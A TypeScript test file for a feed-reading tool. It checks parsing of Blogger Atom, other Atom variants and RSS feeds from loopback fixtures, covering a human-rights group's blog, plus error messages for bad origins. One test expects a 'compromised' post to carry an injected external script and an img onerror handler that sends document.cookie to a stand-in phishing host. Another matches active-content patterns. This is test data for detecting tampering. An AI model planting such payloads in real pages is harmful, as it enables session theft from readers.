// Origin sources against real loopback HTTP servers: the Blogger fixtures end to end, RSS and
// Atom variants, and every kind of bad origin, each of which must fail with a message that names
// the URL and the problem.
import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { ServerResponse } from 'node:http';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { OriginSnapshot } from '../../src/core/model.ts';
import { SourceError } from '../../src/ports/source.ts';
import { openSource } from '../../src/adapters/sources/open-source.ts';
import { rfc822ToRfc3339 } from '../../src/adapters/sources/rss-source.ts';
import { FEED_PATH, startBloggerServer, type BloggerServer, type RouteHandler } from '../helpers/blogger-server.ts';
import { ALTERED_ID, BLOG_ID, CLEAN, COMPROMISED, FIXTURE_SETS, POST_ID_PREFIX } from '../helpers/fixtures.ts';

const BLOG = 'http://gongminziyoulianmeng.blogspot.com';

const servers: BloggerServer[] = [];
let scratch = '';
beforeAll(async () => {
  scratch = await mkdtemp(join(tmpdir(), 'ferry-sources-'));
});
afterAll(async () => {
  await rm(scratch, { recursive: true, force: true });
});
afterEach(async () => {
  await Promise.all(servers.splice(0).map((s) => s.close()));
});

async function serve(folder: string, routes?: Record<string, RouteHandler>): Promise<BloggerServer> {
  const server = await startBloggerServer(folder, routes ? { routes } : {});
  servers.push(server);
  return server;
}

/** A server with no fixture feed: only the given routes answer. */
function serveRoutes(routes: Record<string, RouteHandler>): Promise<BloggerServer> {
  return serve(scratch, routes);
}

function xml(body: string | ((base: string) => string), type = 'application/atom+xml; charset=UTF-8'): RouteHandler {
  return (_req, res, base) => {
    const text = typeof body === 'string' ? body : body(base);
    res.writeHead(200, { 'content-type': type });
    res.end(text);
  };
}

async function readError(location: string, opts: Parameters<typeof openSource>[1] = {}): Promise<SourceError> {
  try {
    await openSource(location, opts).read();
  } catch (e) {
    if (e instanceof SourceError) return e;
    throw e;
  }
  throw new Error(`reading ${location} succeeded, expected a SourceError`);
}

const ATOM_NS = "xmlns='http://www.w3.org/2005/Atom'";

function atomFeed(entries: string, extra = ''): string {
  return `<?xml version='1.0' encoding='UTF-8'?><feed ${ATOM_NS}${extra}><id>tag:example,2024:feed</id><title>Example</title>${entries}</feed>`;
}

function atomEntry(
  id: string,
  fields = "<published>2024-01-02T03:04:05+08:00</published><updated>2024-01-02T03:04:05+08:00</updated><title>T</title><content type='html'>&lt;p&gt;x&lt;/p&gt;</content>",
): string {
  return `<entry><id>${id}</id>${fields}</entry>`;
}

describe('Blogger Atom feed (fixtures through a loopback Blogger)', () => {
  let clean: OriginSnapshot;
  let server: BloggerServer;
  const progress: string[] = [];

  beforeAll(async () => {
    server = await startBloggerServer(CLEAN);
    clean = await openSource(`${server.base}${FEED_PATH}`, { onProgress: (m) => progress.push(m) }).read();
    await server.close();
  });

  it('reads all 7 posts across both pages, following rel="next"', () => {
    expect(clean.entries).toHaveLength(7);
    expect(server.requests).toEqual([FEED_PATH, `${FEED_PATH}?start-index=5&max-results=4`]);
    expect(progress).toHaveLength(2);
    expect(clean.location).toBe(`${server.base}${FEED_PATH}`);
  });

  it('keeps ids, titles (entities decoded, Chinese intact) and feed order', () => {
    expect(clean.entries.map((e) => e.id)).toEqual(
      [
        '5318467019284737190',
        '2209475183663051288',
        '8830112765409913354',
        '6057720394128850146',
        '3471958802216639075',
        '1186603350271924705',
        '4620338571926604017',
      ].map((n) => POST_ID_PREFIX + n),
    );
    expect(clean.entries.map((e) => e.title)).toEqual([
      'June Fourth Candlelight Vigil in Flushing',
      'World Day Against Cyber Censorship: What Our Members Use',
      'Human Rights Day: We Read "Article 19" Aloud',
      '金明哲：为什么我们需要翻墙',
      'Book Talk: "Letters My Father Could Not Send"',
      'Rally for Detained Lawyers at the Chinese Consulate',
      '朴英：致在押维权律师的一封信',
    ]);
  });

  it('keeps dates exactly as written, with their offset', () => {
    const first = clean.entries[0];
    expect(first?.published).toBe('2016-06-05T19:42:00.000-07:00');
    expect(first?.updated).toBe('2016-06-06T08:15:27.441-07:00');
    // Written in winter time: Blogger gives each date the blog's offset on that day.
    expect(clean.entries[1]?.published).toBe('2016-03-12T10:30:00.000-08:00');
    expect(clean.entries.at(-1)?.published).toBe('2015-09-14T21:03:00.000-07:00');
  });

  it('takes alternate links, authors, labels and language from the feed', () => {
    expect(clean.entries.map((e) => new URL(e.originUrl).pathname)).toEqual([
      '/2016/06/june-fourth-candlelight-vigil-in-flushin.html',
      '/2016/03/world-day-against-cyber-censorship-what.html',
      '/2015/12/human-rights-day-we-read-article-19-alo.html',
      '/2015/10/blog-post.html',
      '/2015/10/book-talk-letters-my-father-could-not.html',
      '/2015/09/rally-for-detained-lawyers-at-chinese.html',
      '/2015/09/blog-post.html',
    ]);
    expect(clean.entries.every((e) => e.originUrl.startsWith(`${BLOG}/`))).toBe(true);
    expect(clean.entries.map((e) => e.authors)).toEqual([
      ['Coalition for Citizens Rights'],
      ['Coalition for Citizens Rights'],
      ['Coalition for Citizens Rights'],
      ['金明哲'],
      ['Coalition for Citizens Rights'],
      ['Coalition for Citizens Rights'],
      ['Park Ying'],
    ]);
    // Labels, without Blogger's kind#post category; the fixture posts carry no xml:lang.
    expect(clean.entries.map((e) => e.tags)).toEqual([
      ['Events', 'June Fourth'],
      ['Internet Freedom'],
      ['Events', 'Human Rights'],
      ['人权', '网络自由'],
      ['Books'],
      ['Events', 'Human Rights Lawyers'],
      ['人权', '维权律师'],
    ]);
    expect(clean.entries.every((e) => e.language === undefined)).toBe(true);
  });

  it('passes the HTML on decoded exactly once, media links pointing at the served host', () => {
    const first = clean.entries[0]?.html ?? '';
    expect(first.startsWith('<p>On the evening of June 4, 2016, about sixty people')).toBe(true);
    // The feed has &amp;quot; and &amp;#x27;: HTML entities that must survive as entities.
    expect(first).toContain('organised by &quot;Coalition for Citizens Rights&quot;');
    expect(first).toContain('the library&#x27;s neighbours');
    const photos = clean.entries[5]?.html ?? '';
    expect(photos).toContain(`${server.base}/media/s320/protest-1.png`);
    expect(photos).not.toContain('{BASE}');
  });

  it('reads site metadata as plain text', () => {
    expect(clean.meta.id).toBe(BLOG_ID);
    expect(clean.meta.title).toBe('公民自由联盟 Coalition for Citizens Rights');
    expect(clean.meta.subtitle.startsWith('Coalition for Citizens Rights works for freedom of speech')).toBe(true);
    expect(clean.meta.subtitle).toContain('the official site of "Coalition for Citizens Rights".');
    expect(clean.meta.originUrl).toBe(`${BLOG}/`);
    expect(clean.meta.language).toBe('zh');
  });

  it('passes the compromised post on unsanitized, with its new updated date', async () => {
    const evil = await serve(COMPROMISED);
    const snapshot = await openSource(`${evil.base}${FEED_PATH}`).read();
    expect(snapshot.entries).toHaveLength(7);
    const altered = snapshot.entries.find((e) => e.id === ALTERED_ID);
    expect(altered?.published).toBe('2015-10-03T16:05:00.000-07:00');
    expect(altered?.updated).toBe('2026-11-20T03:14:15.123-07:00');
    expect(altered?.html).toContain('<script type="text/javascript" src="http://counter.example-stats.net/track.js"></script>');
    expect(altered?.html).toContain(`onerror="this.src=&#39;http://phish.example/p.gif?c=&#39;+document.cookie"`);
    const untouched = snapshot.entries.filter((e) => e !== altered);
    expect(untouched.map((e) => e.html)).toEqual(
      clean.entries.filter((e) => e.id !== ALTERED_ID).map((e) => e.html.replaceAll(server.base, evil.base)),
    );
  });

  it('reads a saved page from a local .xml file without following rel="next"', async () => {
    const text = (await readFile(join(CLEAN, 'blogger/feed-page1.xml'), 'utf8')).replaceAll('{BASE}', 'http://127.0.0.1:9');
    const file = join(scratch, 'saved-feed.xml');
    await writeFile(file, text);
    const snapshot = await openSource(file).read();
    expect(snapshot.entries).toHaveLength(4);
    expect(snapshot.location).toBe(file);
    expect(snapshot.entries[3]?.title).toBe('金明哲：为什么我们需要翻墙');
  });
});

describe.each(FIXTURE_SETS)('every Blogger fixture set: $name', ({ clean, compromised }) => {
  /** The count a Blogger feed declares, and the entries its pages hold. */
  const declared = async (folder: string): Promise<{ total: number; entries: number }> => {
    const root = join(folder, 'blogger');
    const pages = (await readdir(root)).filter((f) => /^feed-page\d+\.xml$/.test(f));
    const texts = await Promise.all(pages.map((f) => readFile(join(root, f), 'utf8')));
    const total = Number(/<openSearch:totalResults>(\d+)</.exec(texts[0] ?? '')?.[1]);
    return { total, entries: texts.reduce((n, t) => n + (t.match(/<entry>/g)?.length ?? 0), 0) };
  };

  it('reads every entry the feed declares, across all its pages', async () => {
    const { total, entries } = await declared(clean);
    expect(total).toBe(entries);
    const server = await serve(clean);
    const snapshot = await openSource(`${server.base}${FEED_PATH}`).read();
    expect(snapshot.entries).toHaveLength(total);
    expect(new Set(snapshot.entries.map((e) => e.id)).size).toBe(total);
    for (const e of snapshot.entries) {
      expect(e.html, e.id).not.toContain('{BASE}');
      expect(Number.isNaN(Date.parse(e.updated)), e.id).toBe(false);
    }
  });

  it('the compromised copy differs from the clean one only in entries that carry active content', async () => {
    const [a, b] = await Promise.all([serve(clean), serve(compromised)]);
    const before = await openSource(`${a.base}${FEED_PATH}`).read();
    const after = await openSource(`${b.base}${FEED_PATH}`).read();
    const changed = after.entries.filter((e) => before.entries.find((o) => o.id === e.id)?.html.replaceAll(a.base, b.base) !== e.html);
    expect(changed.length).toBeGreaterThan(0);
    for (const e of changed) expect(e.html, e.id).toMatch(/<script|<iframe|javascript:|\son\w+=/i);
  });
});

describe('Atom variants', () => {
  it('reads text, xhtml and summary content, labels, xml:lang and relative links', async () => {
    const feed = atomFeed(
      [
        atomEntry(
          'a1',
          `<published>2024-01-02T03:04:05Z</published><title type='html'>&lt;b&gt;Bold&lt;/b&gt; &amp;amp; more</title>
           <category scheme='http://schemas.google.com/g/2005#kind' term='http://schemas.google.com/blogger/2008/kind#post'/>
           <category scheme='http://www.blogger.com/atom/ns#' term='翻墙'/><category term='RSS'/><category term='翻墙'/>
           <link rel='alternate' type='text/html' href='/2024/01/a1.html'/>
           <content type='text'>1 &lt; 2

second paragraph</content>`,
        ),
        atomEntry(
          'a2',
          `<updated>2024-02-02T03:04:05+05:30</updated><title type='xhtml'><div xmlns='http://www.w3.org/1999/xhtml'>X <i>title</i></div></title>
           <content type='xhtml'><div xmlns='http://www.w3.org/1999/xhtml'><p>Hi &amp; <b>bye</b></p></div></content>`,
        ),
        `<entry xml:lang='en'><id>a3</id><updated>2024-03-02T03:04:05-07:00</updated><title>S</title><summary type='html'><![CDATA[<p>from &amp; summary</p>]]></summary></entry>`,
      ].join(''),
      " xml:lang='zh-Hans'",
    );
    const server = await serveRoutes({ '/atom': xml(feed) });
    const { entries, meta } = await openSource(`${server.base}/atom`).read();
    expect(meta.language).toBe('zh-Hans');
    const [a1, a2, a3] = entries;
    expect(a1).toMatchObject({
      title: 'Bold & more',
      tags: ['翻墙', 'RSS'],
      language: 'zh-Hans',
      originUrl: `${server.base}/2024/01/a1.html`,
    });
    expect(a1?.html).toBe('<p>1 &lt; 2</p><p>second paragraph</p>');
    expect(a1?.published).toBe('2024-01-02T03:04:05Z');
    expect(a1?.updated).toBe('2024-01-02T03:04:05Z');
    expect(a2).toMatchObject({
      title: 'X title',
      html: '<p>Hi &amp; <b>bye</b></p>',
      published: '2024-02-02T03:04:05+05:30',
      originUrl: '',
    });
    expect(a3).toMatchObject({ html: '<p>from &amp; summary</p>', language: 'en' });
  });

  it('follows a relative rel="next" and drops a post repeated on the next page, keeping the first copy', async () => {
    const server = await serveRoutes({
      '/feed/p1': xml(atomFeed(atomEntry('x') + atomEntry('y')).replace('</title>', `</title><link rel='next' href='p2?page=2&amp;n=2'/>`)),
      '/feed/p2': xml(atomFeed(atomEntry('y') + atomEntry('z'))),
    });
    const { entries } = await openSource(`${server.base}/feed/p1`).read();
    expect(server.requests).toEqual(['/feed/p1', '/feed/p2?page=2&n=2']);
    expect(entries.map((e) => e.id)).toEqual(['x', 'y', 'z']);
  });
});

describe('RSS 2.0', () => {
  const rss = `<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:atom="http://www.w3.org/2005/Atom">
<channel>
  <title>公民自由联盟 RSS</title><link>https://example.org/</link><description>&lt;b&gt;Free&lt;/b&gt; speech &amp;amp; press</description>
  <language>zh-cn</language><atom:link rel="self" href="https://example.org/rss.xml"/>
  <item><title>第一篇</title><link>https://example.org/2016/06/first.html</link><guid isPermaLink="false">post-1</guid>
    <pubDate>Wed, 08 Jun 2016 21:03:00 -0700</pubDate><atom:updated>2016-06-09T08:00:00-07:00</atom:updated>
    <description>short</description><content:encoded><![CDATA[<p>Full <em>text</em> &amp; more</p>]]></content:encoded>
    <category>RSS</category><category>翻墙</category><author>editor@example.org (Editor)</author><dc:creator>编辑部</dc:creator></item>
  <item><title>Second</title><link>/2016/05/second.html</link><pubDate>Thu, 19 May 2016 10:00:00 GMT</pubDate>
    <dc:date>2016-05-20T10:00:00Z</dc:date><description>&lt;p&gt;desc &amp;amp; html&lt;/p&gt;</description></item>
</channel></rss>`;

  it('reads items with guid, dates kept in their offset, content:encoded, categories and authors', async () => {
    const server = await serveRoutes({ '/rss.xml': xml(rss, 'application/rss+xml') });
    const { meta, entries } = await openSource(`${server.base}/rss.xml`).read();
    expect(meta).toEqual({
      id: 'https://example.org/rss.xml',
      title: '公民自由联盟 RSS',
      subtitle: 'Free speech & press',
      originUrl: 'https://example.org/',
      language: 'zh-cn',
    });
    expect(entries[0]).toEqual({
      id: 'post-1',
      title: '第一篇',
      published: '2016-06-08T21:03:00-07:00',
      updated: '2016-06-09T08:00:00-07:00',
      authors: ['Editor', '编辑部'],
      tags: ['RSS', '翻墙'],
      language: 'zh-cn',
      html: '<p>Full <em>text</em> &amp; more</p>',
      originUrl: 'https://example.org/2016/06/first.html',
    });
    expect(entries[1]).toMatchObject({
      id: '/2016/05/second.html',
      published: '2016-05-19T10:00:00Z',
      updated: '2016-05-20T10:00:00Z',
      html: '<p>desc &amp; html</p>',
      originUrl: `${server.base}/2016/05/second.html`,
    });
  });

  it.each([
    ['Wed, 08 Jun 2016 21:03:00 -0700', '2016-06-08T21:03:00-07:00'],
    ['08 Jun 2016 21:03 +0800', '2016-06-08T21:03:00+08:00'],
    ['Sat, 1 Oct 2016 00:00:59 +0530', '2016-10-01T00:00:59+05:30'],
    ['Mon, 29 Feb 2016 12:00:00 UT', '2016-02-29T12:00:00Z'],
    ['Tue, 01 Mar 16 12:00:00 EST', '2016-03-01T12:00:00-05:00'],
    ['Sun, 10 July 2016 08:00:00 PDT', '2016-07-10T08:00:00-07:00'],
    ['2016-06-08T21:03:00-07:00', undefined],
    ['Wed, 08 Jun 2016 21:03:00', undefined],
    ['Wed, 30 Feb 2016 21:03:00 +0000', undefined],
    ['Wed, 08 Jun 2016 25:03:00 +0000', undefined],
    ['Wed, 08 Foo 2016 21:03:00 +0000', undefined],
    ['Wed, 08 Jun 2016 21:03:00 CET', undefined],
    ['yesterday', undefined],
  ])('rfc822ToRfc3339(%j) is %j', (input, expected) => {
    expect(rfc822ToRfc3339(input)).toBe(expected);
  });

  it('rejects an item with a bad pubDate, naming the item', async () => {
    const bad = rss.replace('Thu, 19 May 2016 10:00:00 GMT', 'sometime in May');
    const server = await serveRoutes({ '/rss.xml': xml(bad) });
    const error = await readError(`${server.base}/rss.xml`);
    expect(error.message).toBe(`${server.base}/rss.xml: item 2 ("Second"): <pubDate> "sometime in May" is not an RFC 822 date`);
  });
});

describe('bad origins fail with a message naming the URL and the problem', () => {
  it('connection refused', async () => {
    const server = await serveRoutes({});
    await server.close();
    servers.pop();
    const url = `${server.base}${FEED_PATH}`;
    const error = await readError(url);
    expect(error.location).toBe(url);
    expect(error.message).toMatch(new RegExp(`^${escape(url)}: cannot connect \\(ECONNREFUSED\\)`));
  });

  it('HTTP 404 and HTTP 500 (on the second page: no partial blog)', async () => {
    const server = await serveRoutes({
      '/p1': xml((base) => atomFeed(atomEntry('x')).replace('</title>', `</title><link rel='next' href='${base}/p2'/>`)),
      '/p2': (_req, res) => {
        res.writeHead(500);
        res.end('oops');
      },
    });
    expect((await readError(`${server.base}/nope`)).message).toBe(`${server.base}/nope: HTTP 404 (not found: is the feed URL right?)`);
    expect((await readError(`${server.base}/p1`)).message).toBe(`${server.base}/p2: HTTP 500 (the origin server failed)`);
  });

  it('a server that never answers (timeout)', async () => {
    const server = await serveRoutes({ '/hang': () => undefined });
    const error = await readError(`${server.base}/hang`, { timeoutMs: 150 });
    expect(error.message).toBe(`${server.base}/hang: no complete answer within 150 ms`);
  });

  it('a response over maxBytes, even without a Content-Length', async () => {
    const server = await serveRoutes({
      '/huge': (_req, res: ServerResponse) => {
        res.writeHead(200, { 'content-type': 'application/atom+xml' });
        res.write(`<feed ${ATOM_NS}>`);
        const chunk = `<entry><id>${'x'.repeat(1000)}</id></entry>`;
        for (let i = 0; i < 300; i++) res.write(chunk);
        res.end('</feed>');
      },
    });
    const error = await readError(`${server.base}/huge`, { maxBytes: 64 * 1024 });
    expect(error.message).toBe(`${server.base}/huge: body is over the limit of ${64 * 1024} bytes`);
  });

  it('malformed XML, with line and column', async () => {
    const server = await serveRoutes({ '/bad': xml(`<feed ${ATOM_NS}>\n<entry><id>x</id>\n<title>oops</entry>\n</feed>`) });
    const error = await readError(`${server.base}/bad`);
    expect(error.message).toMatch(new RegExp(`^${escape(server.base)}/bad: malformed XML at line 3, column \\d+: .*title`));
  });

  it('an empty feed (a blanked feed must never replace a blog)', async () => {
    const server = await serveRoutes({
      '/empty': xml(atomFeed('')),
      '/empty-rss': xml('<rss version="2.0"><channel><title>t</title></channel></rss>'),
    });
    expect((await readError(`${server.base}/empty`)).message).toBe(
      `${server.base}/empty: feed has no entries (refusing to treat the blog as empty)`,
    );
    expect((await readError(`${server.base}/empty-rss`)).message).toBe(
      `${server.base}/empty-rss: feed has no entries (refusing to treat the blog as empty)`,
    );
  });

  it('a rel="next" that loops, and more pages than maxPages', async () => {
    const page = (id: string, next: string): RouteHandler =>
      xml((base) => atomFeed(atomEntry(id)).replace('</title>', `</title><link rel='next' href='${base}${next}'/>`));
    const server = await serveRoutes({
      '/a': page('a', '/b'),
      '/b': page('b', '/a?'),
      '/c': page('c', '/d'),
      '/d': page('d', '/e'),
      '/e': page('e', '/f'),
    });
    // '/a?' and '/a' are different URLs; the loop is caught when /a? links on to /b again.
    const loop = await readError(`${server.base}/a`);
    expect(loop.location).toBe(`${server.base}/b`);
    expect(loop.message).toMatch(new RegExp(`^${escape(server.base)}/b: rel="next" loops back to this page, already fetched`));
    expect(server.requests.filter((r) => r === '/b')).toHaveLength(1);
    const capped = await readError(`${server.base}/c`, { maxPages: 2 });
    expect(capped.message).toBe(
      `${server.base}/c: more than 2 pages (the next would be ${server.base}/e); raise maxPages if the blog really is this large`,
    );
  });

  it('an HTML page instead of a feed', async () => {
    const server = await serveRoutes({
      '/': xml('<!DOCTYPE html>\n<html><head><title>Blog</title></head><body><p>Hello<br></body></html>', 'text/html'),
    });
    const error = await readError(`${server.base}/`);
    expect(error.message).toBe(`${server.base}/: not an Atom or RSS feed (the document is <html>, expected <feed> or <rss>)`);
  });

  it('bad Atom dates, naming the entry', async () => {
    const server = await serveRoutes({
      '/bad-date': xml(
        atomFeed(atomEntry('ok') + atomEntry('tag:x,2024:post-2', '<published>2024-02-30T10:00:00Z</published><title>Two</title>')),
      ),
      '/no-date': xml(atomFeed(atomEntry('tag:x,2024:post-3', '<title>Three</title>'))),
    });
    expect((await readError(`${server.base}/bad-date`)).message).toBe(
      `${server.base}/bad-date: entry 2 (tag:x,2024:post-2): <published> "2024-02-30T10:00:00Z" is not an RFC 3339 date-time`,
    );
    expect((await readError(`${server.base}/no-date`)).message).toBe(
      `${server.base}/no-date: entry 1 (tag:x,2024:post-3): has neither <published> nor <updated>`,
    );
  });

  it('local locations that are not sources', async () => {
    const missing = join(scratch, 'missing-folder');
    expect((await readError(missing)).message).toBe(`${missing}: no such file or folder`);
    const text = join(scratch, 'notes.txt');
    await writeFile(text, 'hello');
    expect((await readError(text)).message).toBe(`${text}: not a feed URL (http or https), a .xml feed file or a folder of Markdown posts`);
    expect((await readError('ftp://example.org/feed')).message).toBe(
      'ftp://example.org/feed: only http, https and local files or folders can be read',
    );
  });
});

function escape(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}
